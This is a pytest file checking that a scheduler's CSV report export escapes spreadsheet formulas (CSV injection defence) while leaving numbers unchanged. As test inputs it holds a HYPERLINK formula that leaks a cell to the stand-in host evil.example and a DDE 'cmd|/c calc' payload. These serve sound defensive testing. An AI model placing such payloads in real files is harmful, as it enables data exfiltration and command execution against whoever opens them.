"""Text from the import reaches the CSV as text: a cell a spreadsheet would run as a formula
gets a leading apostrophe (OWASP CSV injection), and numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from scheduler.engagement.report import load
from scheduler.engagement.report_files import spreadsheet_text, write_csv
from tests.engagement.conftest import World, report_entry

LEAK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def written_rows(tmp_path: Path, *entries: object) -> list[dict[str, str]]:
    out = tmp_path / "engagement.csv"
    write_csv(entries, out)  # type: ignore[arg-type]
    with out.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_text_cell_starting_a_formula_is_written_as_text(tmp_path: Path, start: str) -> None:
    hostile = f"{start}cmd|'/c calc'!A1"
    entry = report_entry(
        title=hostile, ref=hostile, remote_id=hostile, url=hostile, unavailable=(hostile,)
    )

    [row] = written_rows(tmp_path, entry)

    for column in ("title", "ref", "remote_id", "url", "unavailable"):
        assert row[column] == f"'{hostile}", column


def test_a_hyperlink_formula_in_a_title_from_the_import_is_not_run(
    world: World, tmp_path: Path
) -> None:
    world.publish("2026-11", title=LEAK)
    world.later(hours=1).poll()

    [row] = written_rows(tmp_path, *load(world.store))

    assert row["title"] == f"'{LEAK}"


def test_numbers_and_ordinary_text_are_written_unchanged(tmp_path: Path) -> None:
    title = "Evidence - not opinion - moved the ward; 'quoted' = fine mid-text"

    [row] = written_rows(tmp_path, report_entry(title=title, unavailable=("outbox mode",)))

    assert row["title"] == title and row["unavailable"] == "outbox mode"
    assert row["impressions"] == "985" and row["likes"] == "3"
    assert row["engagement_rate"] == "0.012500"
    assert row["posted_at"] == "2026-11-03T09:00:00+00:00"


def test_only_a_formula_start_is_escaped() -> None:
    assert spreadsheet_text("") == ""
    assert spreadsheet_text("a=b") == "a=b"
    assert spreadsheet_text("-12") == "'-12"
